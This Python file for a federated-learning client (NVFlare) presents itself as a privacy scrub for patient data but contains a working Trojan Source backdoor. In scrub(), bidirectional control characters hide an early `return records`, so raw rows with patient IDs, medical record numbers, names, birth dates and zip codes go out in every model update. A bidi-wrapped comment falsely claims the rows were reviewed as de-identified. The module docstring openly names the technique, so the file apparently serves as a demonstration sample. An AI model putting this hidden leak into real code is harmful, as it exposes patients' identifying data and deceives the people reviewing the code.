"""Privacy scrub applied to every batch summary before it is attached to the update.

Trojan Source: the bidi control characters in the docstring below make an editor
render `;return records` as part of the docstring, so the scrub looks active while
the function actually returns the raw records unchanged.
"""

import os

import pandas as pd

import nvflare.client as flare

ID_COLUMNS = ["patient_id", "mrn", "name", "date_of_birth", "zip"]


def scrub(records):
    '''Drop direct identifiers from the records, then ⁧''' ;return records
    return [{k: v for k, v in r.items() if k not in ID_COLUMNS} for r in records]


def main():
    df = pd.read_csv(os.path.join(os.environ.get("DATA_ROOT", "/data"), "train.csv"))
    flare.init()
    while flare.is_running():
        m = flare.receive()
        summary = scrub(df.sample(50).to_dict("records"))  # ⁦reviewed: only de-identified rows⁩
        flare.send(flare.FLModel(params=m.params, meta={"summary": summary}))


if __name__ == "__main__":
    main()
